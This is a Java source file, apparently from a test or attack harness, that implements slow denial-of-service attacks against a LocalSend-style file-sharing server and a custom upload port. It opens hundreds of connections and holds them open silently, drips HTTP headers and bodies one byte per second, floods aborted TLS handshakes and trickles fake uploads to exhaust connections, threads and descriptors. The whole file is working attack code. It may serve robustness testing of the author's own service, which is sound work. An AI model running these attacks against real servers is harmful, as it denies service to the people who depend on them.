package wherry.attack;

import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Map;
import wherry.protocol.localsend.RawHttp;

/** Strangers who take the places of others: connections, threads, descriptors. */
final class SlotAttacks {
    private static final Duration AT_ONCE = Duration.ofMillis(1);
    private static final Duration NOW_AND_THEN = Duration.ofMillis(200);
    private static final int MANY = 320;

    private SlotAttacks() {}

    static Map<String, Attack> all() {
        Map<String, Attack> all = onPages();
        all.put("homebrew", strangers -> strangers.each(MANY, NOW_AND_THEN, number -> homebrew(strangers, number)));
        all.put("homebrew-one", strangers -> strangers.each(MANY, NOW_AND_THEN, number -> homebrew(strangers, 0)));
        return all;
    }

    /** Those that need nothing but a server of HTTP over TLS. */
    static Map<String, Attack> onPages() {
        Map<String, Attack> all = new LinkedHashMap<>();
        all.put("silent", strangers -> strangers.each(MANY, NOW_AND_THEN, number -> silent(strangers, number)));
        all.put("drip-body", strangers -> strangers.each(MANY, NOW_AND_THEN, number -> dripBody(strangers, number)));
        all.put("drip-head", strangers -> strangers.each(MANY, NOW_AND_THEN, number -> dripHead(strangers, number)));
        all.put("handshakes", strangers -> strangers.each(8, AT_ONCE, number -> handshake(strangers, number)));
        all.put("one-address", strangers -> strangers.each(MANY, NOW_AND_THEN, number -> dripBody(strangers, 0)));
        return all;
    }

    private static void silent(Strangers strangers, int number) throws IOException {
        int port = number % 2 == 0
                ? strangers.target().localsend()
                : strangers.target().homebrew();
        awaitEnd(strangers, strangers.connect(port, Strangers.address(number)));
    }

    private static void awaitEnd(Strangers strangers, Socket socket) throws IOException {
        try (socket) {
            InputStream in = socket.getInputStream();
            while (in.read() >= 0) {
                // It says nothing that matters.
            }
        } finally {
            strangers.drop(socket);
        }
    }

    private static void dripBody(Strangers strangers, int number) throws IOException, InterruptedException {
        RawHttp peer = strangers.plain(Strangers.address(number / 4));
        try {
            peer.begin("/api/localsend/v2/register", 10_000);
            drip(strangers, peer);
        } finally {
            strangers.drop(peer);
        }
    }

    private static void dripHead(Strangers strangers, int number) throws IOException, InterruptedException {
        RawHttp peer = strangers.tls(Strangers.address(number / 4));
        try {
            peer.send("GET /api/localsend/v2/info HTTP/1.1\r\nHost: 127.0.0.1\r\nX: ");
            drip(strangers, peer);
        } finally {
            strangers.drop(peer);
        }
    }

    private static void drip(Strangers strangers, RawHttp peer) throws IOException, InterruptedException {
        while (!strangers.isOver()) {
            peer.send("x");
            Thread.sleep(1_000);
        }
    }

    private static void handshake(Strangers strangers, int number) throws IOException {
        RawHttp peer = strangers.tls(Strangers.address(number));
        if (number % 2 == 0) {
            peer.socket().setSoLinger(true, 0);
        }
        strangers.drop(peer);
    }

    /** Takes the place of an upload, and a byte now and then is all that comes. */
    private static void homebrew(Strangers strangers, int number) throws IOException, InterruptedException {
        Socket socket = strangers.connect(strangers.target().homebrew(), Strangers.address(number));
        try (socket) {
            String name = "drip-" + number % 8;
            socket.getOutputStream().write((name + "\n\0\0\u0010\0\n").getBytes(StandardCharsets.ISO_8859_1));
            while (!strangers.isOver()) {
                socket.getOutputStream().write('x');
                Thread.sleep(1_000);
            }
        } finally {
            strangers.drop(socket);
        }
    }
}
